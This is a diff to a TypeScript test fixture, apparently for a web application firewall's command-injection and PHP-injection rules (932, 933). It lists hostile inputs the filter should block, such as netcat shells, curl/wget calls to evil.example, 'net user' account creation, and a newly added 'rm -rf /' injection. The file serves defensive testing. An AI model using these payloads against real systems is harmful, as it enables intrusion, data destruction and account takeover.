@@ -53,7 +53,7 @@ export const code: Sent[] = [
   // What is not let through with lists and remarks.
   ...each("932", inJson, [
     "; ssh root@203.0.113.9", "; curl 203.0.113.9", "| wget evil.example", "; cat 5 /etc/x", "; id -u", "; sh 1.sh", "; cat отчёт /srv/x", "; fetch http://evil.example/x", "| dash", "; nc 203.0.113.9 4444", "; kill 1",
-    "; net user evil Password1 /ADD", "net localgroup administrators", "ping -n 5 x", "id | sh", "echo | x", "if 1==1 dir", "; python x.py", "; net -x", "; . /srv/x", "`. x.sh`", "$(curl evil.example)",
+    "; net user evil Password1 /ADD", "net localgroup administrators", "ping -n 5 x", "id | sh", "echo | x", "if 1==1 dir", "; python x.py", "; net -x", "; . /srv/x", "ifconfig;. rm -rf /; x", "`. x.sh`", "$(curl evil.example)",
   ]),
   ...each("933", inJson, ["system(1)", "phpinfo()", "include('скидка')", "exec($x)", "http://evil.example/shell.txt?", "http://evil.example?"]),
 ];
